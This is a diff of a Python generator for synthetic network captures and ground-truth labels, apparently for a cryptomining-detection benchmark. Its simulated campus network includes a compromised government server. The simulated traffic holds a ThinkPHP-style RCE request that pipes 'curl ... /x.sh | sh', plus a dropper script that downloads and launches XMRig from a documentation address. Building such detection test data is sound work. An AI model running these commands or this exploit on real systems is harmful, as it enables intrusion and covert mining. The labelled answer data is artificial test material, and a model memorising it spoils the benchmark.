+    msgs, t = tls_session(rng, t, rtt, client_hello(rng, sni, FIREFOX_CIPHERS, FIREFOX_EXTS, ["h2", "http/1.1"]),
+                          True, cert_bytes=rng.randrange(2400, 4200), tickets=2)
+    t += rtt + 0.01
+    for _ in range(pages):
+        msgs.append(Msg(t, 0, tls_appdata_for(rng, rng.randrange(300, 700), True)))
+        t += rtt + rng.uniform(0.01, 0.08)
+        msgs.append(Msg(t, 1, tls_appdata_for(rng, rng.randrange(1500, 9000), True)))
+        t += rng.uniform(1.5, 12)
+    return msgs
+
+
+# ----------------------------------------------------------------------------------------------
 # the files
 
 
@@ -1476,6 +1937,8 @@ class FileBuilder:
         self.features = features
         self.sessions: list[dict[str, Any]] = []
         self.negatives: list[dict[str, Any]] = []
+        self.sections: dict[str, Any] = {}  # top-level truth.json sections this file adds
+        self.extra_files: dict[str, bytes] = {}  # files written next to the capture
 
     def flow(self, iface: int, link: LinkFn, client: Host, cport: int, server: Host, sport: int,
              rng: random.Random, rtt: float, msgs: list[Msg], open_at: float | None, close_at: float | None,
@@ -1814,23 +2277,635 @@ def file_midsession_sll2() -> FileBuilder:
     return fb
 
 
-BUILDERS = [file_stratum_vlan, file_equihash_sll, file_ethereum_rawip, file_monero_pcapng, file_gbt_null, file_midsession_sll2]
+# ----------------------------------------------------------------------------------------------
+# the campus: who owns each miner, deliberate or compromised
+
+# The sample address registry (cidr, unit, category, region, contact) written to campus-registry.csv.
+# Blocks are private (RFC 1918) and documentation (RFC 5737, RFC 3849) space; units are fictitious.
+CAMPUS_REGISTRY: list[tuple[str, str, str, str, str]] = [
+    ("10.10.0.0/16", "Example City Government Data Centre", "government", "Riverside", "noc@city.gov.example"),
+    ("2001:db8:10::/48", "Example City Government Data Centre", "government", "Riverside", "noc@city.gov.example"),
+    ("10.11.0.0/20", "Example Provincial Bureau of Statistics", "government", "Lakeside", "it@stats.gov.example"),
+    ("10.12.4.0/22", "Example County Public Security Bureau", "government", "Hillcrest", ""),
+    ("10.20.0.0/16", "Example University of Technology", "education", "Riverside", "netops@ut.example.edu"),
+    ("10.20.14.64/26", "Example University of Technology School of Physics GPU Laboratory", "education",
+     "Riverside", "gpulab@phys.ut.example.edu"),
+    ("2001:db8:20::/48", "Example University of Technology", "education", "Riverside", "netops@ut.example.edu"),
+    ("10.21.0.0/16", "Example Normal University", "education", "Lakeside", "nic@normal.example.edu"),
+    ("172.20.8.0/24", "Example No. 3 Middle School", "education", "Hillcrest", ""),
+    ("10.30.0.0/16", "Example Institute of Applied Genomics", "research", "Riverside", "it@genomics.example.org"),
+    ("2001:db8:30::/48", "Example Institute of Applied Genomics", "research", "Riverside", "it@genomics.example.org"),
+    ("10.31.0.0/18", "Example Academy of Agricultural Sciences", "research", "Lakeside", "net@agri.example.org"),
+    ("10.40.0.0/16", "Example State Grid Riverside Power Supply Company", "soe", "Riverside", "soc@grid.example.com"),
+    ("2001:db8:40::/48", "Example State Grid Riverside Power Supply Company", "soe", "Riverside", "soc@grid.example.com"),
+    ("10.41.0.0/17", "Example Provincial Railway Logistics Group", "soe", "Lakeside", "it@rail.example.com"),
+    ("10.50.0.0/16", "Example First People's Hospital", "healthcare", "Riverside", "infosec@hospital1.example.org"),
+    ("2001:db8:50::/48", "Example First People's Hospital", "healthcare", "Riverside", "infosec@hospital1.example.org"),
+    ("10.51.0.0/20", "Example City Centre for Disease Control and Prevention", "healthcare", "Riverside", ""),
+    ("172.16.0.0/16", "Example Logistics Co Ltd", "enterprise", "Riverside", "it@logistics.example.com"),
+    ("172.17.0.0/16", "Example Software Technology Co Ltd", "enterprise", "Lakeside", "ops@software.example.com"),
+    ("2001:db8:60::/48", "Example Software Technology Co Ltd", "enterprise", "Lakeside", "ops@software.example.com"),
+    ("172.24.0.0/14", "Example Telecom Riverside Broadband", "residential", "Riverside", "abuse@telecom.example.net"),
+    ("2001:db8:8a00::/40", "Example Telecom Riverside Broadband", "residential", "Riverside", "abuse@telecom.example.net"),
+    ("172.28.0.0/15", "Example Cable Lakeside Home Internet", "residential", "Lakeside", "abuse@cable.example.net"),
+    ("203.0.113.0/25", "Example Cloud Hosting Ltd", "hosting", "", "abuse@cloud.example.net"),
+    ("2001:db8:c100::/40", "Example Cloud Hosting Ltd", "hosting", "", "abuse@cloud.example.net"),
+    ("198.51.100.192/26", "Example VPS Provider", "hosting", "", "abuse@vps.example.net"),
+    ("10.99.0.0/16", "Unrecorded legacy allocation", "unknown", "", ""),
+    ("192.168.0.0/16", "Site-local space (holder not recorded)", "unknown", "", ""),
+]
+PUBLIC_CATEGORIES = ["government", "education", "research", "soe", "healthcare"]
+SIGNALS = ["inbound_server", "scanned_into", "outbound_scan", "fetched_script", "fetched_elf", "pool_dns",
+           "disguised_port", "xmrig_agent", "cpu_algorithm", "shared_wallet_cross_unit", "rig_software",
+           "gpu_or_asic_algorithm", "named_workers", "farm_same_account", "rig_hashrate"]
+VERDICTS = ["institution_misuse", "compromised", "private"]
+
+
+def registry_csv() -> bytes:
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator="\n")
+    w.writerow(["cidr", "unit", "category", "region", "contact"])
+    w.writerows(CAMPUS_REGISTRY)
+    return buf.getvalue().encode()
+
+
+def registry_lookup(ip: str) -> tuple[str, str, str]:
+    """(cidr, unit, category) of the longest registry prefix holding ``ip``."""
+    addr = ipaddress.ip_address(ip)
+    best = max((ipaddress.ip_network(r[0]) for r in CAMPUS_REGISTRY if addr in ipaddress.ip_network(r[0])),
+               key=lambda n: n.prefixlen)
+    row = next(r for r in CAMPUS_REGISTRY if ipaddress.ip_network(r[0]) == best)
+    return row[0], row[1], row[2]
+
+
+def host_mac(ip: str) -> str:
+    return "02:" + ":".join(f"{b:02x}" for b in hashlib.sha256(ip.encode()).digest()[:5])
+
+
+CAMPUS_GW = "00:1c:73:5e:00:01"
+
+
+def out_link(ip: str, vlan: int) -> LinkFn:
+    """Frames of a flow opened by the campus host ``ip`` (side 0 leaves the host)."""
+    return ether_link(host_mac(ip), CAMPUS_GW, ((0x8100, vlan),))
+
+
+def in_link(ip: str, vlan: int) -> LinkFn:
+    """Frames of a flow opened from outside towards the campus host ``ip``."""
+    return ether_link(CAMPUS_GW, host_mac(ip), ((0x8100, vlan),))
+
+
+XMRIG_BOT_AGENT = "XMRig/6.16.4 (Linux x86_64) libuv/1.42.0 gcc/9.3.0"
+
+
+def file_campus() -> FileBuilder:
+    cap = Capture("campus.pcapng", "pcapng", [Interface(1, "span-core")])
+    fb = FileBuilder(cap, epoch(2022, 3, 15, 1, 0, 0),
+                     "45 minutes of a sample campus/regional network with units on their own VLANs (registry in "
+                     "campus-registry.csv): a GPU farm of three rigs on one 2Miners account in a university lab /26, "
+                     "an Antminer on AntPool in a state-owned enterprise, a hijacked government web server (scanned, "
+                     "exploited, fetches x.sh and an ELF, XMRig on mine.c3pool.com:80), the same wallet on a hospital "
+                     "server that scans outward (XMRig on :443 plaintext), a home GPU miner over IPv6; benign "
+                     "browsing, web servers, ERP JSON-RPC and an Electrum wallet",
+                     ["pcapng", "ethernet", "802.1Q", "ipv6", "dns-before-session", "registry", "overlapping-prefixes",
+                      "inbound-server", "syn-scan-inbound", "syn-scan-outbound", "http-exploit", "script-download",
+                      "elf-download", "shared-wallet", "gpu-farm-one-account", "disguised-port", "port-80", "port-443",
+                      "mining.configure", "electrum-jsonrpc"])
+    rng = random.Random(7007)
+    b = fb.base_ns
+    T = 2700.0
+    ts0 = fb.epoch0
+    V = {"gov": 110, "univ": 120, "lab": 124, "research": 130, "soe": 140, "hosp": 150, "ent": 160, "res": 180}
+    # -- hosts
+    gov_web = Host("10.10.3.20", 64, 0x2100, 501)
+    gov_res = Host("10.10.0.53", 64, 0x0050, 0)
+    gov_pc = Host("10.10.20.31", 128, 0x4400, 1026)
+    rigs = [Host("10.20.14.71", 64, 0x1100, 502), Host("10.20.14.72", 64, 0x1200, 502), Host("10.20.14.73", 64, 0x1300, 502)]
+    univ_res = Host("10.20.0.53", 64, 0x0051, 0)
+    univ_web = Host("10.20.1.10", 64, 0x2200, 509)
+    res_pc = Host("10.30.2.44", 128, 0x4500, 1026)
+    res_res = Host("10.30.0.53", 64, 0x0052, 0)
+    asic = Host("10.40.7.33", 64, 0x0900, 1024)
+    soe_res = Host("10.40.0.53", 64, 0x0053, 0)
+    erp_c = Host("10.40.5.20", 128, 0x4600, 1026)
+    erp_s = Host("10.40.1.8", 64, 0x2300, 509)
+    hosp = Host("10.50.8.15", 64, 0x2400, 501)
+    hosp_res = Host("10.50.0.53", 64, 0x0054, 0)
+    hosp_pc = Host("10.50.20.7", 128, 0x4700, 1026)
+    ent_pc = Host("172.16.4.12", 128, 0x4800, 1026)
+    ent_res = Host("172.16.0.53", 64, 0x0055, 0)
+    home6 = Host("2001:db8:8a10:4::23", 64, 0, 1024)
+    isp_res6 = Host("2001:db8:8a00::53", 64, 0, 0)
+    wallet_pc = Host("172.24.9.87", 128, 0x4900, 1026)
+    isp_res4 = Host("172.24.0.53", 64, 0x0056, 0)
+    twominers = Host("192.0.2.20", 50, 0x0300, 235)
+    antpool = Host("192.0.2.30", 47, 0x0400, 229)
+    c3pool = Host("192.0.2.60", 49, 0x0500, 227)
+    ethermine6 = Host("2001:db8:ff00::44", 52, 0, 229)
+    scanner_raw = Host("203.0.113.45", 243, 0x0000, 1024)
+    scanner = Host("203.0.113.45", 51, 0x6200, 502)
+    dropper = Host("203.0.113.77", 50, 0x7100, 509)
+    electrumx = Host("198.51.100.200", 53, 0x7200, 501)
+    sites = {"www.wikipedia.org": Host("198.51.100.21", 55, 0x7300, 1040),
+             "www.who.int": Host("198.51.100.60", 54, 0x7400, 1040),
+             "login.microsoftonline.com": Host("198.51.100.71", 53, 0x7500, 1040),
+             "www.bbc.co.uk": Host("198.51.100.88", 55, 0x7600, 1040),
+             "news.example.com": Host("198.51.100.95", 56, 0x7700, 509)}
+    expect: dict[str, tuple[str, str]] = {}  # ip -> (unit, category) as intended; checked against the registry
+
+    def dns(link: LinkFn, t: float, client: Host, resolver: Host, port: int, name: str, qtype: str, ans: list[str]) -> None:
+        fb.negatives.append(dns_exchange(cap, b, 0, link, t, client, resolver, port, rng.getrandbits(16), name, qtype, ans))
+
+    sess_idx: dict[str, list[int]] = {}
+
+    def add_session(key: str, f: Flow, log: SessionLog, **kw: Any) -> None:
+        sess_idx.setdefault(key, []).append(len(fb.sessions))
+        fb.sessions.append(truth_session(f, log, b, **kw))
+
+    # -- a. three GPU rigs of the physics lab on one 2Miners account (EthereumStratum/1.0.0)
+    farm_wallet = eth_address("minesweep sample campus gpu lab farm")
+    rig_specs = [("rig01", "PhoenixMiner/5.9d", 262e6, 1.0, 14.0, 2660.0),
+                 ("rig02", "T-Rex/0.25.8", 368e6, 2.0, 22.5, 2668.0),
+                 ("rig03", "lolMiner 1.45", 188e6, 1.0, 31.2, 2675.0)]
+    for i, (worker, agent, H, diff, start, end) in enumerate(rig_specs):
+        rig = rigs[i]
+        link = out_link(rig.ip, V["lab"])
+        dns(link, start - 0.4, rig, univ_res, 40100 + 17 * i, "eth.2miners.com", "A", [twominers.ip])
+        login = f"{farm_wallet}.{worker}"
+        msgs, log = sim_ethstratum(rng, start=start + 0.1, end=end, hashrate=H, diff=diff, login=login, agent=agent,
+                                   rtt=0.041 + 0.002 * i)
+        f = fb.flow(0, link, rig, 50210 + 7 * i, twominers, 2020, random.Random(71 + i), 0.041 + 0.002 * i, msgs,
+                    start, end + 0.5, log=log)
+        add_session(rig.ip, f, log, dialect="ethstratum", coin="ETH", algorithm="ethash", worker=worker,
+                    wallet=farm_wallet, login=login, agent=agent, pool="eth.2miners.com", pool_evidence=["dns"],
+                    true_hashrate=H, unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["lab"]])
+        expect[rig.ip] = ("Example University of Technology School of Physics GPU Laboratory", "education")
+
+    # -- b. an Antminer S17 Pro in the state-owned power company, bmminer on AntPool
+    link = out_link(asic.ip, V["soe"])
+    dns(link, 4.6, asic, soe_res, 38201, "ss.antpool.com", "A", [antpool.ip])
+    H = 53e12
+    msgs, log = sim_stratum_sha(rng, start=5.1, end=2694.0, hashrate=H, diffs=[(0, 262144)], algo="sha256d",
+                                agent="bmminer/2.0.0", login="gridpower.s17pro-07", rtt=0.038, version_rolling=True,
+                                epoch0=ts0, coinbase_tag="Mined by AntPool")
+    f = fb.flow(0, link, asic, 46012, antpool, 3333, random.Random(74), 0.038, msgs, 5.0, 2694.5, log=log)
+    add_session(asic.ip, f, log, dialect="stratum", coin="BTC", algorithm="sha256d", worker="s17pro-07", wallet=None,
+                login="gridpower.s17pro-07", agent="bmminer/2.0.0", pool="ss.antpool.com", pool_evidence=["dns"],
+                true_hashrate=H, unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["soe"]])
+    expect[asic.ip] = ("Example State Grid Riverside Power Supply Company", "soe")
+
+    # -- c. the government web server: a busy HTTPS/HTTP server all along ...
+    bot_wallet = monero_address("minesweep sample campus botnet wallet")
+    gov_in = in_link(gov_web.ip, V["gov"])
+    visitors = [Host(f"198.51.100.{101 + k}", 50 + k % 9, 0x8000 + 0x100 * k, 1026) for k in range(14)] + \
+               [Host(f"172.24.{30 + k}.{11 + 7 * k}", 120 + k % 5, 0x9000 + 0x100 * k, 1026) for k in range(8)]
+    inbound: list[dict[str, Any]] = []
+    for k in range(30):
+        v = visitors[k % len(visitors)]
+        t = 3.0 + k * (T - 60) / 30 + rng.uniform(0, 60)
+        cport = 49200 + 37 * k
+        if k % 5 == 4:
+            f = fb.flow(0, gov_in, v, cport, gov_web, 80, random.Random(800 + k), 0.03, neg_redirect(t + 0.04, "www.city.gov.example", ts0),
+                        t, t + 1.5)
+            fb.negative(f, "http-inbound", "visitor on the government web server's port 80, redirected to HTTPS")
+        else:
+            f = fb.flow(0, gov_in, v, cport, gov_web, 443, random.Random(800 + k), 0.03,
+                        neg_tls(rng, "www.city.gov.example", t + 0.04, 0.03, rng.randrange(2, 6)), t, t + 30.0)
+            fb.negative(f, "https-inbound", "visitor on the government web server (TLS, SNI www.city.gov.example)")
+        inbound.append(fb.negatives[-1])
+    # ... swept by a scanner in a hosting block, then exploited through a ThinkPHP-style RCE URL ...
+    targets = [(f"10.10.3.{h}", p) for h in range(1, 255) for p in (80, 443, 7001)]
+    rng.shuffle(targets)
+    live = {"10.10.3.1": Host("10.10.3.1", 255, 0x0001, 0), "10.10.3.21": Host("10.10.3.21", 64, 0x2500, 0),
+            "10.10.3.25": Host("10.10.3.25", 128, 0x2600, 0), gov_web.ip: gov_web}
+    scan_in = syn_scan(cap, b, 0, lambda ip: in_link(ip, V["gov"]), rng, scanner_raw, 61722, targets, 300.0, 28.0,
+                       {(gov_web.ip, 80): gov_web, (gov_web.ip, 443): gov_web, ("10.10.3.21", 443): live["10.10.3.21"]},
+                       live, 0.052)
+    scan_in.update({"direction": "inbound", "targets": "10.10.3.0/24", "hits_hosts": [gov_web.ip]})
+    fetch_cmd = "curl -s http://203.0.113.77/x.sh | sh"
+    exploit_path = ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
+                    "&vars[1][]=" + fetch_cmd.replace(" ", "%20").replace("|", "%7C"))
+    t_x = 410.0
+    req = http_get(exploit_path, gov_web.ip, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
+                   "Gecko) Chrome/78.0.3904.108 Safari/537.36", "Connection: close\r\n")
+    resp = http_response("200 OK", ts0 + t_x + 1.2, "text/html; charset=utf-8", b"", "nginx/1.16.1",
+                         extra="X-Powered-By: PHP/7.2.24\r\nConnection: close\r\n")
+    f = fb.flow(0, gov_in, scanner, 40722, gov_web, 80, random.Random(81), 0.052,
+                [Msg(t_x + 0.06, 0, req), Msg(t_x + 1.2, 1, resp)], t_x, t_x + 1.3, close_side=1)
+    fb.negative(f, "http-exploit", f"inbound exploit request from the scanner: RCE running '{fetch_cmd}'")
+    exploit = fb.negatives[-1]
+    # ... so the server fetches a shell script and an ELF and starts XMRig on a Monero pool's port 80
+    script = ("#!/bin/sh\n"
+              "# minesweep sample dropper (inert: documentation addresses, no persistence)\n"
+              "cd /tmp || cd /var/tmp\n"
+              "curl -s -o .xmrig http://203.0.113.77/xmrig || wget -q -O .xmrig http://203.0.113.77/xmrig\n"
+              "chmod +x .xmrig\n"
+              f"./.xmrig -o mine.c3pool.com:80 -u {bot_wallet} -p x -k --donate-level 1 -B >/dev/null 2>&1\n").encode()
+    gov_out = out_link(gov_web.ip, V["gov"])
+    downloads: list[dict[str, Any]] = []
+    for k, (t_d, path, ctype, body) in enumerate([(411.4, "/x.sh", "text/x-sh", script),
+                                                  (412.9, "/xmrig", "application/octet-stream", elf_body(rng, 40960))]):
+        req = http_get(path, dropper.ip, "curl/7.29.0")
+        resp = http_response("200 OK", ts0 + t_d, ctype, body, "SimpleHTTP/0.6 Python/3.8.10", "HTTP/1.0",
+                             f"Last-Modified: {http_date(ts0 - 86400 * 3)}\r\n")
+        f = fb.flow(0, gov_out, gov_web, 41810 + 2 * k, dropper, 80, random.Random(82 + k), 0.061,
+                    [Msg(t_d + 0.062, 0, req), Msg(t_d + 0.13, 1, resp)], t_d, t_d + 0.5, close_side=1)
+        fb.negative(f, "http-download-script" if k == 0 else "http-download-elf",
+                    f"the government server downloads {path} ({ctype}, {len(body)} bytes)")
+        downloads.append({**fb.negatives[-1], "path": path, "content_type": ctype, "body_bytes": len(body),
+                          "body_prefix": body[:16].decode("latin-1")})
+    dns(gov_out, 418.0, gov_web, gov_res, 52931, "mine.c3pool.com", "A", [c3pool.ip])
+    H = 5200.0
+    msgs, log = sim_xmrig(rng, start=418.2, end=2688.0, hashrate=H, diffs=[(0, 120000)], login=bot_wallet,
+                          agent=XMRIG_BOT_AGENT, algos=XMRIG6_ALGOS, algo="rx/0", rigid=None, escape_slashes=False,
+                          keepalive=60.0, rtt=0.048, height0=2578120, epoch0=ts0)
+    f = fb.flow(0, gov_out, gov_web, 41816, c3pool, 80, random.Random(84), 0.048, msgs, 418.1, 2688.5, log=log)
+    add_session(gov_web.ip, f, log, dialect="monero", coin="XMR", algorithm="rx/0", worker=None, wallet=bot_wallet,
+                login=bot_wallet, agent=XMRIG_BOT_AGENT, pool="mine.c3pool.com", pool_evidence=["dns"], true_hashrate=H,
+                unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["gov"]])
+    expect[gov_web.ip] = ("Example City Government Data Centre", "government")
+
+    # -- d. the same wallet on a hospital server that scans outward (SSH, Redis, Docker API)
+    hosp_out = out_link(hosp.ip, V["hosp"])
+    dns(hosp_out, 39.6, hosp, hosp_res, 47211, "mine.c3pool.com", "A", [c3pool.ip])
+    H = 2400.0
+    msgs, log = sim_xmrig(rng, start=40.2, end=2690.0, hashrate=H, diffs=[(0, 60000)], login=bot_wallet,
+                          agent=XMRIG_BOT_AGENT, algos=XMRIG6_ALGOS, algo="rx/0", rigid=None, escape_slashes=False,
+                          keepalive=60.0, rtt=0.047, height0=2577975, epoch0=ts0)
+    f = fb.flow(0, hosp_out, hosp, 36118, c3pool, 443, random.Random(85), 0.047, msgs, 40.1, 2690.5, log=log)
+    add_session(hosp.ip, f, log, dialect="monero", coin="XMR", algorithm="rx/0", worker=None, wallet=bot_wallet,
+                login=bot_wallet, agent=XMRIG_BOT_AGENT, pool="mine.c3pool.com", pool_evidence=["dns"], true_hashrate=H,
+                unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["hosp"]],
+                notes="plaintext XMRig stratum on port 443 (no TLS)")
+    expect[hosp.ip] = ("Example First People's Hospital", "healthcare")
+    scans_out = []
+
+    def hosp_scan_link(ip: str) -> LinkFn:  # same-VLAN targets are reached directly, others via the gateway
+        if ip.startswith("10.50."):
+            return ether_link(host_mac(hosp.ip), host_mac(ip), ((0x8100, V["hosp"]),))
+        return hosp_out
+
+    ext_live = {"198.51.100.37": Host("198.51.100.37", 52, 0x3100, 0), "203.0.113.140": Host("203.0.113.140", 49, 0x3200, 0),
+                "10.50.8.40": Host("10.50.8.40", 64, 0x3300, 0)}
+    ext_open = {("198.51.100.37", 22): ext_live["198.51.100.37"], ("10.50.8.40", 6379): ext_live["10.50.8.40"]}
+    for n, (t_s, sport) in enumerate([(600.0, 39811), (1500.0, 52266), (2300.0, 44019)]):
+        pool_ips = [f"198.51.100.{h}" for h in range(1, 255)] + [f"203.0.113.{h}" for h in range(1, 255)] + \
+                   [f"10.50.{rng.randrange(0, 32)}.{rng.randrange(1, 255)}" for _ in range(60)]
+        addrs = rng.sample(pool_ips, 70) + (["198.51.100.37", "10.50.8.40", "203.0.113.140"] if n == 0 else [])
+        tg = [(ip, p) for ip in addrs for p in (22, 6379, 2375)]
+        rng.shuffle(tg)
+        s = syn_scan(cap, b, 0, hosp_scan_link, rng, Host(hosp.ip, 64, 0x5000 + n * 0x1000, 1024), sport, tg, t_s,
+                     9.0, ext_open, ext_live, 0.035)
+        s.update({"direction": "outbound"})
+        scans_out.append(s)
+
+    # -- e. a home GPU miner on residential IPv6, eth-proxy to ethermine, its own wallet
+    home_link = out_link(home6.ip, V["res"])
+    dns(home_link, 99.7, home6, isp_res6, 53112, "eu1.ethermine.org", "AAAA", [ethermine6.ip])
+    home_wallet = eth_address("minesweep sample campus home rtx3060ti")
+    H = 61e6
+    msgs, log = sim_ethproxy(rng, start=100.2, end=1300.0, hashrate=H, share_work=1e9, login=home_wallet, rtt=0.036)
+    f = fb.flow(0, home_link, home6, 51034, ethermine6, 4444, random.Random(86), 0.036, msgs, 100.1, 1300.5, log=log)
+    add_session(home6.ip, f, log, dialect="ethproxy", coin="ETH", algorithm="ethash", worker=None, wallet=home_wallet,
+                login=home_wallet, agent=None, pool="eu1.ethermine.org", pool_evidence=["dns"], worker_field="eth1.0",
+                true_hashrate=H, unit="H/s", starts_mid_session=False, line_ending="\n", vlan=[V["res"]])
+    expect[home6.ip] = ("Example Telecom Riverside Broadband", "residential")
+
+    # -- f. benign hosts of several units
+    univ_in = in_link(univ_web.ip, V["univ"])
+    for k in range(12):
+        v = visitors[(k * 5 + 3) % len(visitors)]
+        t = 20.0 + k * 215 + rng.uniform(0, 60)
+        f = fb.flow(0, univ_in, v, 50600 + 41 * k, univ_web, 443, random.Random(900 + k), 0.028,
+                    neg_tls(rng, "www.ut.example.edu", t + 0.04, 0.028, rng.randrange(2, 7)), t, t + 25.0)
+        fb.negative(f, "https-inbound", "visitor on the university web server (TLS, SNI www.ut.example.edu)")
+    browsing = [(gov_pc, "gov", gov_res, [("www.wikipedia.org", 200.0), ("login.microsoftonline.com", 1210.0)]),
+                (res_pc, "research", res_res, [("www.who.int", 505.0), ("www.bbc.co.uk", 1733.0)]),
+                (hosp_pc, "hosp", hosp_res, [("www.who.int", 902.0)]),
+                (ent_pc, "ent", ent_res, [("login.microsoftonline.com", 707.0), ("www.wikipedia.org", 2101.0)])]
+    for j, (pc, unit_key, resolver, visits) in enumerate(browsing):
+        link = out_link(pc.ip, V[unit_key])
+        for k, (sni, t) in enumerate(visits):
+            dns(link, t - 0.05, pc, resolver, 55000 + 100 * j + k, sni, "A", [sites[sni].ip])
+            f = fb.flow(0, link, pc, 60100 + 100 * j + k, sites[sni], 443, random.Random(950 + 10 * j + k), 0.031,
+                        neg_https_visits(rng, t + 0.04, sni, 0.031, rng.randrange(2, 5)), t, t + 90.0)
+            fb.negative(f, "tls", f"browser on {sni} (TLS 1.3)")
+    link = out_link(ent_pc.ip, V["ent"])
+    dns(link, 1499.9, ent_pc, ent_res, 55410, "news.example.com", "A", [sites["news.example.com"].ip])
+    f = fb.flow(0, link, ent_pc, 60190, sites["news.example.com"], 80, random.Random(970), 0.022,
+                neg_http_get(rng, "news.example.com", 1500.05) + neg_http_get(rng, "news.example.com", 1512.4, "/world"),
+                1500.0, 1530.0)
+    fb.negative(f, "http", "browser GET on a news site")
+    bodies = []
+    for i in range(30):
+        rid = 4100 + i
+        req = {"jsonrpc": "2.0", "method": "call", "params": {"model": "stock.picking", "method": "search_read",
+               "args": [[["state", "=", "assigned"]]], "kwargs": {"fields": ["name", "scheduled_date"], "limit": 40}},
+               "id": rid}
+        res = {"jsonrpc": "2.0", "id": rid, "result": [{"id": 900 + i * 3 + j, "name": f"WH/OUT/{10450 + i * 3 + j:05d}",
+                                                        "scheduled_date": "2022-03-15 09:00:00"} for j in range(3)]}
+        bodies.append((jdump(req).encode(), jdump(res).encode()))
+    erp = neg_jsonrpc_http(rng, 60.0, "10.40.1.8:8069", "/web/dataset/call_kw/stock.picking/search_read", bodies,
+                           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+                           "Chrome/99.0.4844.51 Safari/537.36", (60, 110), server_hdr="Server: Werkzeug/0.16.1 Python/3.8.10\r\n")
+    f = fb.flow(0, ether_link(host_mac(erp_c.ip), host_mac(erp_s.ip), ((0x8100, V["soe"]),)), erp_c, 61410, erp_s, 8069,
+                random.Random(971), 0.0009, erp, 59.95, 2640.0)
+    fb.negative(f, "jsonrpc-http", "Odoo ERP JSON-RPC (method 'call', params model/method/args) over HTTP 8069")
+    wl = out_link(wallet_pc.ip, V["res"])
+    dns(wl, 29.5, wallet_pc, isp_res4, 58810, "electrum.example.net", "A", [electrumx.ip])
+    f = fb.flow(0, wl, wallet_pc, 58812, electrumx, 50001, random.Random(972), 0.044, neg_electrum(rng, 30.1, 2620.0, 0.044),
+                30.0, 2625.0)
+    fb.negative(f, "jsonrpc-electrum", "Electrum wallet on an ElectrumX server: line-delimited JSON-RPC with "
+                                       "subscriptions and server notifications over TCP 50001 (not mining)")
+
+    # -- the campus section of truth.json
+    for ip, (unit, category) in expect.items():
+        cidr, r_unit, r_cat = registry_lookup(ip)
+        if (r_unit, r_cat) != (unit, category):
+            raise RuntimeError(f"registry gives {ip} to {r_unit}/{r_cat}, the sample means {unit}/{category}")
+
+    def host(ip: str, verdict: str, signals: list[str], role: str, **kw: Any) -> dict[str, Any]:
+        cidr, unit, category = registry_lookup(ip)
+        if not set(signals) <= set(SIGNALS):
+            raise RuntimeError(f"unknown signal in {signals}")
+        return {"ip": ip, "unit": unit, "category": category, "public_institution": category in PUBLIC_CATEGORIES,
+                "registry_cidr": cidr, "verdict": verdict, "signals": signals, "role": role,
+                "sessions": sess_idx[ip], **kw}
+
+    farm = [r.ip for r in rigs]
+    rig_signals = ["pool_dns", "rig_software", "gpu_or_asic_algorithm", "named_workers", "farm_same_account", "rig_hashrate"]
+    hosts = [host(r.ip, "institution_misuse", rig_signals, f"GPU rig {spec[0]} ({spec[1]}, {spec[2] / 1e6:.0f} MH/s ethash)")
+             for r, spec in zip(rigs, rig_specs)]
+    hosts.append(host(asic.ip, "institution_misuse",
+                      ["pool_dns", "rig_software", "gpu_or_asic_algorithm", "named_workers", "rig_hashrate"],
+                      "Antminer S17 Pro (bmminer, SHA-256d, 53 TH/s) on AntPool, worker s17pro-07"))
+    hosts.append(host(gov_web.ip, "compromised",
+                      ["inbound_server", "scanned_into", "fetched_script", "fetched_elf", "pool_dns", "disguised_port",
+                       "xmrig_agent", "cpu_algorithm", "shared_wallet_cross_unit"],
+                      "government web server hijacked: scanned, exploited, downloads x.sh and an ELF, XMRig rx/0 to "
+                      "mine.c3pool.com on port 80",
+                      inbound_connections=len(inbound), exploit=exploit, downloads=downloads, disguised_port=80))
+    hosts.append(host(hosp.ip, "compromised",
+                      ["outbound_scan", "pool_dns", "disguised_port", "xmrig_agent", "cpu_algorithm",
+                       "shared_wallet_cross_unit"],
+                      "hospital server with the government server's wallet, XMRig rx/0 plaintext on port 443, "
+                      "SYN-scanning ports 22/6379/2375", disguised_port=443))
+    hosts.append(host(home6.ip, "private", ["pool_dns", "gpu_or_asic_algorithm"],
+                      "home GPU miner (one RTX 3060 Ti class card, 61 MH/s) on residential IPv6, own wallet"))
+    benign = [{"ip": h.ip, "unit": registry_lookup(h.ip)[1], "category": registry_lookup(h.ip)[2], "what": what}
+              for h, what in [(univ_web, "university web server with inbound HTTPS"), (gov_pc, "office PC browsing"),
+                              (res_pc, "researcher's PC browsing"), (hosp_pc, "hospital PC browsing"),
+                              (ent_pc, "office PC browsing (HTTPS and HTTP)"), (erp_c, "Odoo ERP JSON-RPC client"),
+                              (erp_s, "Odoo ERP server"), (wallet_pc, "Electrum wallet (JSON-RPC over TCP)")]]
+    reg = registry_csv()
+    fb.extra_files["campus-registry.csv"] = reg
+    fb.sections["campus"] = {
+        "file": cap.name, "registry": "campus-registry.csv", "registry_sha256": hashlib.sha256(reg).hexdigest(),
+        "registry_rows": len(CAMPUS_REGISTRY), "window_seconds": T,
+        "public_categories": PUBLIC_CATEGORIES, "verdicts": VERDICTS, "signal_vocabulary": SIGNALS,
+        "verdict_rule": "institution_misuse: a public-institution host mining deliberately (rig software, GPU/ASIC "
+                        "algorithm at rig-level hashrate, named workers, several hosts on one account); compromised: "
+                        "signs of intrusion (scanned/exploited, fetched script/ELF, outbound scanning, XMRig on a CPU "
+                        "algorithm over a disguised port, one wallet across unrelated units); private: a non-public "
+                        "unit mining deliberately",
+        "hosts": hosts,
+        "accounts": [{"pool": "eth.2miners.com", "login_prefix": farm_wallet, "workers": ["rig01", "rig02", "rig03"],
+                      "hosts": farm}],
+        "shared_wallets": [{"wallet": bot_wallet, "coin": "XMR", "hosts": [gov_web.ip, hosp.ip],
+                            "units": [registry_lookup(gov_web.ip)[1], registry_lookup(hosp.ip)[1]]}],
+        "scans": [scan_in, *scans_out],
+        "benign_hosts": benign,
+    }
+    return fb
+
+
+# ----------------------------------------------------------------------------------------------
+# encrypted and evasive mining, with look-alikes that must stay unflagged
+
+
+def file_encrypted() -> FileBuilder:
